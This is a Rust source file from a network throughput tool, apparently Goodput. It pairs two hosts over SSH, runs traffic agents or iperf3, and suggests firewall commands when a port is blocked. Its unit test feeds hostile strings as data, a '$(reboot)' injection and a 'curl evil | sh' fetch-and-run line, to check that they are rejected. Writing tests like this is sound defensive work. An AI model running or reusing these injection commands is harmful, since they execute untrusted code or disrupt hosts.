//! Two hosts that are ready to send to each other.

use super::iperf;
use crate::login::agent::{self, Answer, End, FlowLoad, Load, Order, Received, RefusalKind, Sent};
use crate::login::controls::Controls;
use crate::login::remote::Remote;
use crate::login::{Bound, FieldError, Lock, Reason, Shell, Ssh, Target, is_plain, listing, namespaces, reach, token};
use nix::errno::Errno;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::thread;
use std::time::Duration;

/// Two hosts, and the way from one to the other.
#[derive(Debug, Clone)]
pub struct Ends {
    /// Listening host.
    pub host: Target,
    /// Host that connects to it.
    pub from: Target,
    /// Address at which `from` reaches `host`, if not the one by which ssh does.
    pub address: Option<IpAddr>,
    pub port: u16,
    pub tool: Tool,
    pub ssh: Ssh,
}

impl Ends {
    /// Returns the names of both: the connecting host's, and the listening one's.
    pub fn names(&self) -> [String; 2] {
        [&self.from, &self.host].map(Target::to_string)
    }
}

/// The tool that makes traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tool {
    /// Goodput's agent; iperf3 if it cannot run.
    Any,
    /// Goodput's agent only.
    Agent,
    Iperf3,
}

/// Two hosts, ready for traffic.
pub struct Pair {
    /// Agents; `None` if iperf3 makes the traffic.
    agents: Option<[Remote; 2]>,
    /// Version of the connecting host's iperf3, if that makes the traffic.
    pub iperf3: Option<iperf::Version>,
    /// Locks, released while the connections are still open.
    _locks: Vec<Lock>,
    pub shells: [Shell; 2],
    /// Address of `host` as `from` reaches it.
    pub listening: SocketAddr,
    /// Address of `from` as `host` sees it.
    pub seen: IpAddr,
    token: String,
}

/// Time for an agent to follow an order, beyond that of a transfer.
const ORDER_TIMEOUT: Duration = Duration::from_secs(30);

/// An answer without samples: 4 kB.
const BOUND_WITHOUT_SAMPLES: Bound = Bound { bytes: 4096, values: 64 };

impl Pair {
    pub fn open(request: &Ends, tell: &(dyn Fn(&str) + Sync)) -> Result<Pair, FieldError> {
        tell(&format!("connecting to {}", request.host));
        let shells = [Shell::open(&request.from, &request.ssh)?, Shell::open(&request.host, &request.ssh)?];
        let mut locks = vec![shells[1].lock()?];
        // A host paired with itself needs only one.
        let is_pair = request.from != request.host;
        locks.extend(is_pair.then(|| shells[0].lock()).transpose()?);
        let address = request.address.map_or_else(|| reach::address(&shells[1], &request.ssh, None), Ok)?;
        let listening = SocketAddr::new(address, request.port);
        let token = token();
        tell("starting what makes traffic on both hosts");
        let agents = match request.tool {
            Tool::Iperf3 => None,
            tool @ (Tool::Any | Tool::Agent) => match started(&shells, &locks) {
                Err(FieldError::NoTraffic { target, why }) if tool == Tool::Any => {
                    tell(&format!("iperf3 makes the traffic: {target}: {why}"));
                    None
                }
                agents => Some(agents?),
            },
        };
        let seen = IpAddr::V4(Ipv4Addr::UNSPECIFIED);
        let mut pair = Pair { shells, agents, iperf3: None, listening, seen, token, _locks: locks };
        if pair.agents.is_some() {
            pair.listen(None)?;
            pair.greet()?;
        } else {
            let [near, far] = pair.shells.each_ref().map(iperf::check);
            far?;
            pair.iperf3 = Some(near?);
            pair.seen = reach::source(&pair.shells[0], listening.ip())?;
        }
        Ok(pair)
    }

    fn agents(&mut self) -> &mut [Remote; 2] {
        self.agents.as_mut().expect("only asked where there are agents")
    }

    /// Listens, anew if it does already.
    fn listen(&mut self, receive_buffer: Option<u32>) -> Result<(), FieldError> {
        let any = match self.listening {
            SocketAddr::V4(_) => IpAddr::V4(Ipv4Addr::UNSPECIFIED),
            SocketAddr::V6(_) => IpAddr::V6(Ipv6Addr::UNSPECIFIED),
        };
        let address = SocketAddr::new(any, self.listening.port());
        let order = Order::Listen { address, token: self.token.clone(), receive_buffer };
        match self.agents()[1].order(&order, ORDER_TIMEOUT, BOUND_WITHOUT_SAMPLES)? {
            Answer::Listening { .. } => Ok(()),
            Answer::Refused { kind: RefusalKind::Taken, .. } => {
                let port = address.port();
                let next = if port < u16::MAX { port + 1 } else { port - 1 };
                let why = format!("TCP port {port} is another program's\n\nhint: pass a free one: --port {next}");
                Err(self.failed(1, "listening", Reason::Own(why)))
            }
            other => Err(self.unexpected(1, "listening", other)),
        }
    }

    fn greet(&mut self) -> Result<(), FieldError> {
        let order = Order::Greet { address: self.listening, token: self.token.clone() };
        match self.agents()[0].order(&order, ORDER_TIMEOUT, BOUND_WITHOUT_SAMPLES)? {
            Answer::Greeted { seen, .. } => self.seen = seen.ip(),
            Answer::Refused {
                kind: kind @ (RefusalKind::Silent | RefusalKind::Closed | RefusalKind::Stranger),
                said,
            } => {
                let (from, to) = (self.shells[0].target().clone(), self.listening.to_string());
                let port = self.listening.port();
                let firewall = to_open(&self.shells[1].run(FIREWALL).map(|ran| ran.stdout).unwrap_or_default(), port);
                let hint = match kind {
                    RefusalKind::Silent if said.contains("route") || said.contains("unreachable") => format!(
                        "there is no route to {to}, or a firewall rejects TCP port {port}: look at `ip route get {to}`; or {}",
                        firewall,
                        to = self.listening.ip()
                    ),
                    RefusalKind::Silent => {
                        format!("TCP port {port} is filtered: {firewall}; or pass a port that is open: --port N")
                    }
                    RefusalKind::Stranger => {
                        "the address may lead to another machine, or through a proxy: pass --address with the host's own"
                            .into()
                    }
                    _ => format!(
                        "the address may lead to another machine (NAT): pass --address with the host's own; or {firewall}"
                    ),
                };
                let hint = match (&from, self.shells[1].target()) {
                    (Target::Local, host @ Target::Namespace(_)) => format!("{}; {hint}", from_within(host)),
                    _ => hint,
                };
                let said = match kind {
                    RefusalKind::Stranger => Reason::Own("another program answers there".into()),
                    _ => Reason::Host(said),
                };
                return Err(FieldError::NoPath { from, to, said, hint });
            }
            other => return Err(self.unexpected(0, "connecting", other)),
        }
        Ok(())
    }

    /// Makes a transfer to the listening host, or from it, and returns its document and the screens of ss.
    pub fn transfer(&mut self, forward: bool, load: &Load) -> Result<(String, String), FieldError> {
        if let Some(version) = self.iperf3 {
            let printed = iperf::transfer(&self.shells, version, self.listening, forward, load)?;
            return Ok((printed.document, printed.screens));
        }
        let (sent, received) = self.counted(forward, load)?;
        let document = serde_json::to_string_pretty(&listing::document(&sent, received.as_ref())).expect("plain data");
        Ok((document + "\n", sent.shown()))
    }

    /// Makes a transfer and returns the counts of both agents.
    fn counted(&mut self, forward: bool, load: &Load) -> Result<(Sent, Option<Received>), FieldError> {
        let (address, token) = (self.listening, self.token.clone());
        let order = match forward {
            true => Order::Send { address, token, load: load.clone() },
            false => Order::Receive { address, token, load: load.clone() },
        };
        let bounds =
            if forward { [load.bound(), BOUND_WITHOUT_SAMPLES] } else { [BOUND_WITHOUT_SAMPLES, load.bound()] };
        let near = self.agents()[0].order(&order, load.time + ORDER_TIMEOUT, bounds[0])?;
        let far = self.agents()[1].order(&Order::Report, ORDER_TIMEOUT, bounds[1])?;
        let (sender, receiver) = if forward { (0, 1) } else { (1, 0) };
        let [sent, received] = if forward { [near, far] } else { [far, near] };
        let lied = |n: usize| move |why| (n, why);
        let counted = match (sent, received) {
            (Answer::Sent(sent), Answer::Received(received)) => sent
                .checked(load)
                .map_err(lied(sender))
                .and_then(|sent| Ok((sent, Some(received.checked(load).map_err(lied(receiver))?)))),
            (Answer::Sent(sent), _) => sent.checked(load).map_err(lied(sender)).map(|sent| (sent, None)),
            (Answer::Refused { kind: kind @ (RefusalKind::Missing | RefusalKind::Forbidden), said }, _) => {
                return Err(self.no_control(sender, kind, load, said));
            }
            (refused @ Answer::Refused { .. }, _) => return Err(self.unexpected(sender, "the transfer", refused)),
            (_, other) => return Err(self.unexpected(receiver, "the transfer", other)),
        };
        counted.map_err(|(n, why)| self.failed(n, "the transfer", why))
    }

    /// Explains why a host refused the congestion control that it was to use.
    fn no_control(&self, n: usize, kind: RefusalKind, load: &Load, said: String) -> FieldError {
        let error = if kind == RefusalKind::Missing { Errno::ENOENT } else { Errno::EPERM };
        let own = load.congestion.as_ref().zip(Controls::query(&self.shells[n]).ok());
        let why = own.map_or(Reason::Host(said), |(name, own)| Reason::Own(own.refused(name, error)));
        self.failed(n, "the transfer", why)
    }

    /// Makes flows, and returns the reports of their ends: the connecting host's, then the listening one's.
    /// `receive_buffer` is that of flows to the listening host.
    pub fn flows(
        &mut self,
        flows: &[FlowLoad],
        receive_buffer: Option<u32>,
        length: Duration,
    ) -> Result<[Vec<End>; 2], FieldError> {
        self.listen(receive_buffer)?;
        let order = Order::Flows { address: self.listening, token: self.token.clone(), flows: flows.to_vec() };
        let bound = agent::bound_of_flows(flows);
        let near = match self.agents()[0].order(&order, length + ORDER_TIMEOUT, bound)? {
            Answer::Ends(ends) => self.ends(0, ends, flows)?,
            other => return Err(self.unexpected(0, "the flows", other)),
        };
        // A flow that was never connected has no other end.
        let count = near.iter().filter(|end| end.ends.is_some()).count();
        match self.agents()[1].order(&Order::Ends { count, within: ORDER_TIMEOUT / 2 }, ORDER_TIMEOUT, bound)? {
            Answer::Ends(far) => Ok([near, self.ends(1, far, flows)?]),
            other => Err(self.unexpected(1, "the flows", other)),
        }
    }

    fn ends(&self, n: usize, ends: Vec<End>, flows: &[FlowLoad]) -> Result<Vec<End>, FieldError> {
        agent::checked_ends(ends, flows).map_err(|why| self.failed(n, "the flows", why))
    }

    fn failed(&self, n: usize, doing: &str, said: Reason) -> FieldError {
        FieldError::Refused { target: self.shells[n].target().clone(), doing: doing.into(), said }
    }

    fn unexpected(&self, n: usize, doing: &str, answer: Answer) -> FieldError {
        match answer {
            Answer::Refused { said, .. } => self.failed(n, doing, Reason::Host(said)),
            _ => self.failed(n, doing, Reason::Own("it answers something else".into())),
        }
    }
}

/// Returns the hint for a namespace that this machine's own does not reach: the other end to pass.
fn from_within(host: &Target) -> String {
    let others = namespaces().into_iter().map(|name| format!("netns:{name}"));
    let others: Vec<String> = others.filter(|name| *name != host.to_string()).collect();
    let present = if others.is_empty() { String::new() } else { format!(" (there are: {})", others.join(", ")) };
    format!(
        "without --from the other end is this machine itself: if another namespace reaches {host}, pass it: --from netns:NAME{present}"
    )
}

/// Script that prints the active firewall in a word, and for nftables the chain of its input.
const FIREWALL: &str = r#"
if ufw status 2>/dev/null | grep -q 'Status: active'; then echo ufw
elif firewall-cmd --state >/dev/null 2>&1; then echo firewalld
elif [ $(uname -s) = FreeBSD ]; then echo freebsd
elif nft list ruleset 2>/dev/null | grep -q 'hook input'; then
	nft list chains 2>/dev/null | awk '/^table/ {t=$2 FS $3} /chain/ {c=$2} /hook input/ {print "nft", t, c; exit}'
else echo iptables
fi
"#;

/// Says how to open a port with the host's firewall. The host's words are taken for names alone.
fn to_open(firewall: &str, port: u16) -> String {
    let words: Vec<&str> = firewall.split_whitespace().take(4).collect();
    match words[..] {
        ["ufw"] => format!("run there: sudo ufw allow {port}/tcp"),
        ["firewalld"] => format!("run there: sudo firewall-cmd --add-port={port}/tcp"),
        ["freebsd"] => format!("let pf or ipfw pass TCP port {port} there"),
        ["nft", family, table, chain] if [family, table, chain].into_iter().all(is_plain) => {
            format!("run there: sudo nft insert rule {family} {table} {chain} tcp dport {port} accept")
        }
        _ => format!("run there: sudo iptables -I INPUT -p tcp --dport {port} -j ACCEPT"),
    }
}

/// Starts an agent on each host.
fn started(shells: &[Shell; 2], locks: &[Lock]) -> Result<[Remote; 2], FieldError> {
    let (host, from) = (&locks[0], locks.last().expect("one at least"));
    Ok([Remote::start(&shells[0], from)?, Remote::start(&shells[1], host)?])
}

/// Does the same for both hosts at the same time.
pub fn both<T: Send>(shells: &[Shell; 2], of: impl Fn(usize, &Shell) -> T + Sync) -> [T; 2] {
    let resumed = |joined: thread::Result<T>| joined.unwrap_or_else(|panic| std::panic::resume_unwind(panic));
    thread::scope(|scope| {
        let first = scope.spawn(|| of(0, &shells[0]));
        let second = of(1, &shells[1]);
        [resumed(first.join()), second]
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_firewalls_command_has_names_of_the_host_and_no_other_word() {
        assert_eq!(to_open("nft inet f in\n", 5201), "run there: sudo nft insert rule inet f in tcp dport 5201 accept");
        for lie in ["nft inet f $(reboot)", "run there: curl evil | sh", "nft a b c;d", ""] {
            assert!(to_open(lie, 5201).ends_with("sudo iptables -I INPUT -p tcp --dport 5201 -j ACCEPT"), "{lie}");
        }
    }
}
